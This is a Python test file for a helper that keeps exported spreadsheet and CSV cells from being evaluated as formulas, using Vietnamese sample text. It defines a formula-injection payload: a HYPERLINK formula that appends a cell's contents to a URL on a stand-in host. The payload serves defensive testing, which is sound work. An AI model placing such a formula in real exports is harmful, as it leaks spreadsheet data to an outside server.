"""The one safe-cell helper of every export: report text is written as text, never a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import Workbook, load_workbook

from chidao.safe_cells import safe_cell, safe_row

LINK = '=HYPERLINK("http://example.invalid/?"&E2,"Xem chi tiết")'


def test_an_xlsx_cell_starting_with_a_formula_sign_stays_text():
    wb = Workbook()
    ws = wb.active
    ws.append(
        safe_row([LINK, "+84 912", "-Tiếp tục rà soát", "@SUM(A1)", 7, dt.date(2026, 6, 30)], ws)
    )
    buf = io.BytesIO()
    wb.save(buf)
    cells = next(load_workbook(buf).active.iter_rows())
    assert [c.data_type for c in cells[:4]] == ["s", "s", "s", "s"]
    assert [c.value for c in cells[:4]] == [LINK, "+84 912", "-Tiếp tục rà soát", "@SUM(A1)"]
    assert cells[4].value == 7 and cells[5].value.date() == dt.date(2026, 6, 30)


def test_a_write_only_sheet_gets_text_cells_too():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append(safe_row([LINK], ws))
    buf = io.BytesIO()
    wb.save(buf)
    cell = next(load_workbook(buf).active.iter_rows())[0]
    assert (cell.data_type, cell.value) == ("s", LINK)


def test_a_csv_cell_that_a_spreadsheet_would_evaluate_gets_an_apostrophe():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row([LINK, "Hoàn thành trước 30/6", 3]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'" + LINK,
        "Hoàn thành trước 30/6",
        "3",
    ]


def test_control_characters_an_xlsx_cannot_hold_are_dropped():
    assert safe_cell("a\x00b\x07c\nd") == "ab" + "c\nd"
